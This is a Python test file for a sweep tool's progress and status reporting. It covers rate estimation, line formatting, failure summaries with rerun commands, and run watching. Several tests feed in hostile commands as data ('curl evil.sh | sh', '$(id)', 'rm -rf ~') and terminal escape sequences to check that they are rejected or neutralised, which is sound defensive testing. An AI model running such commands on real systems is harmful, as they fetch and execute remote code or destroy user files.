"""How far a study is: rates, lines that fit, and watching a run from outside."""

from __future__ import annotations

import io
import os
import re
from pathlib import Path

import numpy as np
import pytest
from rich.console import Console

from matsweep import store as m
from matsweep.reporting.status import Progress, Rate, line, show, view, watch
from matsweep.reporting.status.lines import duration, rate_text, size
from matsweep.reporting.status.memory import own_memory
from matsweep.reporting.status.once import rerun
from matsweep.reporting.status.watching import Eye

N = 6
COMMAND = "matsweep explore -m adc.bits=4,5"


def make(path: Path) -> Path:
    return m.create(
        path,
        coordinates={
            "candidate_id": m.Coordinate(values=[f"{i:032x}" for i in range(N)]),
            "material": m.Coordinate(values=["pcm", "hfox"] * 3),
            "adc.bits": m.Coordinate(values=np.arange(N)),
            "realisation": m.Coordinate(values=[0], dims=("realisation",)),
        },
        variables=[m.Variable(name="area")],
        attrs={"study": "s", "command": COMMAND, "config": f"store: {path}\nlog: auto\n"},
    )


def part(positions, error=""):
    at = np.asarray(positions)
    return m.Part(
        positions=at,
        status=np.full(at.size, 2 if error else 1),
        error=[error and f"{error} {i}" for i in at],
        seconds=at / 8,
        values={"area": at * 1.0},
    )


class Clock:
    def __init__(self):
        self.now = 100.0

    def __call__(self):
        return self.now


# ----------------------------------------------------------------------------------- rate


def test_the_rate_is_that_of_this_run():
    clock = Clock()
    rate = Rate(1000, clock=clock)
    assert rate.value is None
    assert rate.left(2000) is None
    clock.now += 10
    rate.note(1020)
    assert rate.value == pytest.approx(2.0)
    assert rate.left(2000) == pytest.approx(490.0)


def test_the_rate_follows_a_change_and_forgets_the_start():
    clock = Clock()
    rate, count = Rate(0, clock=clock), 0
    clock.now += 500  # slow to start
    for step, each in [(1.0, 5)] * 20 + [(1.0, 50)] * 200:
        clock.now += step
        count += each
        rate.note(count, slots=2)
        if count == 100:
            assert rate.value == pytest.approx(5.0)
    assert rate.value == pytest.approx(50.0)


def test_waves_of_many_workers_do_not_make_it_jump():
    """Eight tasks of 10 s end together: 0.8 candidates a second, whatever moment it is."""
    clock = Clock()
    rate, count = Rate(0, clock=clock), 0
    found = []
    for _wave in range(30):
        clock.now += 10
        for _ in range(8):
            clock.now += 0.001
            count += 1
            rate.note(count, slots=8)
        found.append(rate.value)
    assert min(found[5:]) > 0.6
    assert max(found[5:]) < 1.3


def test_the_rate_falls_when_nothing_comes():
    clock = Clock()
    rate = Rate(0, clock=clock)
    for count in range(1, 11):
        clock.now += 1
        rate.note(count)
    before = rate.value
    clock.now += 90
    assert before == pytest.approx(1.0)
    assert rate.value == pytest.approx(0.1, rel=0.1)


# ---------------------------------------------------------------------------------- lines

FULL = Progress(
    total=1_000_000, done=123_456, failed=1_234, rate=1234.5, left=3 * 86400 + 7200.0,
    workers=512, nodes=16, memory=812_000_000, workers_memory=123_000_000_000, note="x",
)  # fmt: skip


@pytest.mark.parametrize("width", [20, 40, 80, 200])
@pytest.mark.parametrize("progress", [FULL, Progress(total=3, done=0)])
def test_two_lines_whatever_the_width(width, progress):
    out = io.StringIO()
    Console(file=out, width=width, force_terminal=True, color_system=None).print(view(progress))
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    assert max(map(len, lines)) <= width


def test_at_80_columns_all_that_matters_is_there():
    out = io.StringIO()
    Console(file=out, width=80).print(view(FULL))
    head, below = out.getvalue().splitlines()
    assert head.rstrip().endswith("124,690 of 1,000,000 12.4 %")
    assert below.startswith("1,234 failed · 1,234/s · 3 d 02 h left · x · 512 workers on 16 nodes")


def test_a_log_line_says_the_same():
    assert line(FULL) == (
        "124,690 of 1,000,000 candidates, 1,234 failed, 1,234/s, 3 d 02 h left, x, "
        "512 workers on 16 nodes, memory 812 MB + 123.0 GB of workers"
    )


def test_100_percent_is_never_early():
    out = io.StringIO()
    Console(file=out, width=80).print(view(Progress(total=100_000, done=99_999)))
    assert "99.9 %" in out.getvalue()


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.4, "0 s"), (59.4, "59 s"), (59.6, "1:00 min"), (245, "4:05 min"), (3599.7, "1:00 h"),
     (12_000, "3:20 h"), (190_000, "2 d 04 h")],
)  # fmt: skip
def test_durations(seconds, text):
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("rate", "text"), [(1234.0, "1,234/s"), (1.5, "1.5/s"), (0.5, "30/min"), (0.001, "3.6/h")]
)
def test_rates(rate, text):
    assert rate_text(rate) == text


def test_sizes():
    assert [size(n) for n in (12_345, 999_400_000, 1.2e9)] == ["12 kB", "999 MB", "1.2 GB"]


# --------------------------------------------------------------------------------- status


def text_of(path: Path, width: int = 80) -> str:
    out = io.StringIO()
    show(path, Console(file=out, width=width))
    return out.getvalue()


def test_failures_are_told_by_cause_with_an_example_and_the_command(tmp_path):
    path = make(tmp_path / "s.zarr")
    with m.open_store(path) as store:
        store.write(part([0, 1]))
        store.write(part([2, 3], "ValueError: too hot at"))
        store.write(part([4], "OSError: [out]"))
    text = text_of(path)
    assert "2 done, 3 failed, 1 pending of 6" in text
    assert "2 × ValueError: too hot at 2\n" in text
    assert "first candidate 2: material=pcm, adc.bits=2\n" in text
    assert "1 × OSError: [out] 4\n" in text
    assert f"{COMMAND} retry_failed=true\n" in text


def test_a_store_that_was_moved_is_named_in_the_command(tmp_path):
    facts = {"command": COMMAND, "config": "store: results/a.zarr\n"}
    assert rerun(facts, Path("results/a.zarr")) == f"{COMMAND} retry_failed=true"
    assert rerun(facts, Path("b c.zarr")) == (f"{COMMAND} 'store=\"b c.zarr\"' retry_failed=true")
    assert "own command with retry_failed=true" in rerun({}, Path("a.zarr"))


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.sh | sh #",
        "matsweep report x",
        "matsweepx explore",
        "python /tmp/explore.py",
        "matsweep explore 'half",
        "matsweep explore \x1b[8m",
        "matsweep explore '\n rm -rf ~'",
        "matsweep",
        "",
    ],
)
def test_only_a_command_of_matsweep_explore_is_shown(command):
    facts = {"command": command, "config": "store: a.zarr\n"}
    assert rerun(facts, Path("a.zarr")) == "the study's own command with retry_failed=true"


def test_a_command_that_is_shown_runs_nothing_else():
    facts = {"command": "matsweep explore seed=1; curl evil.sh | sh # $(id)", "config": ""}
    shown = rerun(facts, Path("a.zarr"))
    assert shown.startswith("matsweep explore 'seed=1;' curl evil.sh '|' sh '#' '$(id)' ")


def test_text_of_a_store_moves_no_cursor_and_draws_no_markup(tmp_path):
    path = m.create(
        tmp_path / "s.zarr",
        coordinates={"material": m.Coordinate(values=["[red]a\x1b]0;b\x07", "\u202ecd"])},
        variables=[m.Variable(name="area")],
        attrs={"study": "x\x1b[2J\ry", "command": "\x1b[2J"},
    )
    outcome = m.Part(
        positions=np.arange(2),
        status=np.full(2, 2),
        error=["bad\x1b[1A\x9b2K\x08", "worse"],
        seconds=np.ones(2),
        values={},
    )
    with m.open_store(path) as store:
        store.write(outcome)
    out = io.StringIO()
    show(path, Console(file=out, width=80, force_terminal=True, color_system=None))
    text = out.getvalue()
    assert set(filter(lambda char: not char.isprintable(), text)) <= set("\n\x1b")
    assert re.findall(r"\x1b(?!\[[0-9;]*m)", text) == []  # but for rich's own bold and italic
    assert r"x\x1b[2J y" in text
    assert r"1 × bad\x1b[1A\x9b2K\x08" in text
    assert text.count(r"[red]a\x1b]0;b\x07") == 2
    assert text.count(r"\u202ecd") == 2


# --------------------------------------------------------------------------------- watching


def watched(path, monkeypatch, steps, **console):
    """Return what is printed while another thread of events goes on, one a look."""
    waits = iter(steps)
    monkeypatch.setattr("matsweep.reporting.status.watching.sleep", lambda _: next(waits)())
    out = io.StringIO()
    watch(path, Console(file=out, width=80, **console))
    return out.getvalue()


def test_a_pipe_gets_a_line_when_something_changed_and_the_end(tmp_path, monkeypatch):
    path = make(tmp_path / "s.zarr")
    store = m.open_store(path)
    monkeypatch.setattr("matsweep.reporting.status.watching._GRACE", 0.0)

    def write(*positions):
        return lambda: store.write(part(positions))

    steps = [write(0, 1), lambda: None, write(2, 3, 4, 5), store.close]
    text = watched(path, monkeypatch, steps)
    seen = re.findall(r"^\d\d:\d\d:\d\d (\d) of 6 candidates, 0 failed", text, re.MULTILINE)
    assert seen == ["0", "2", "6"]
    assert f"pid {os.getpid()} on" in text
    assert "6 done, 0 failed, 0 pending of 6" in text


def test_a_terminal_is_refreshed_in_place_and_left_clean(tmp_path, monkeypatch):
    path = make(tmp_path / "s.zarr")
    store = m.open_store(path)
    monkeypatch.setattr("matsweep.reporting.status.watching._GRACE", 0.0)
    steps = [lambda: store.write(part([0, 1])), store.close]
    text = watched(path, monkeypatch, steps, force_terminal=True)
    assert "\x1b[2K" in text
    assert text.endswith("\n")
    assert "\x1b[?25h" in text  # the cursor is back
    assert "2 done, 0 failed, 4 pending of 6" in text


def test_without_a_run_it_is_one_look(tmp_path, monkeypatch):
    text = watched(make(tmp_path / "s.zarr"), monkeypatch, [])
    assert text.splitlines()[1] == "0 done, 0 failed, 6 pending of 6"


def test_ctrl_c_ends_it_quietly(tmp_path, monkeypatch):
    def interrupt():
        raise KeyboardInterrupt

    path = make(tmp_path / "s.zarr")
    with m.open_store(path):
        assert "Traceback" not in watched(path, monkeypatch, [interrupt])


def test_a_run_may_leave_its_store_for_a_moment(tmp_path):
    path, clock = make(tmp_path / "s.zarr"), Clock()
    eye = Eye(path, clock=clock)
    with m.open_store(path):
        eye.look()
    clock.now += 1
    eye.look()
    assert not eye.gone
    clock.now += 10
    eye.look()
    assert eye.gone


def test_a_run_whose_process_is_gone_is_gone_at_once(tmp_path, monkeypatch):
    path, clock = make(tmp_path / "s.zarr"), Clock()
    eye = Eye(path, clock=clock)
    with m.open_store(path):
        eye.look()
    assert eye._seen is not None
    eye._seen = (eye._seen[0], m.Holder(pid=2**22 + 1, host=eye._seen[1].host))
    eye.look()
    assert eye.gone


def test_workers_and_memory_come_from_the_log(tmp_path):
    path = make(tmp_path / "s.zarr")
    (path / ".log.jsonl").write_text(
        '{"event": "resumed"}\n{"event": "chunk", "workers": 4, "nodes": 2, "memory": 5}\n'
    )
    with m.open_store(path):
        state = Eye(path).look()
    assert (state.workers, state.nodes) == (4, 2)
    assert state.memory is not None  # of the process itself, which runs here
    assert state.memory > 10**7


def test_the_phase_of_a_run_without_outcomes_comes_from_the_log(tmp_path):
    path = make(tmp_path / "s.zarr")
    log, out = path / ".log.jsonl", io.StringIO()
    log.write_text('{"event": "started"}\n{"event": "phase", "name": "starting\\nRay"}\n')
    with m.open_store(path):
        assert Eye(path).look().note.startswith("starting Ray, ")
        show(path, Console(file=out, width=200))
        with log.open("a") as file:
            file.write('{"event": "chunk"}\n')
        assert not Eye(path).look().note.startswith("starting")
        show(path, Console(file=out, width=200))
    show(path, Console(file=out, width=200))
    at_work = [text for text in out.getvalue().splitlines() if "pending of" in text]
    assert at_work[0].endswith("is at work: starting Ray")
    assert at_work[1].endswith("is at work")
    assert at_work[2].endswith("pending of 6")


def test_memory_of_a_process_that_is_gone_is_unknown():
    assert own_memory(2**22 + 1) is None
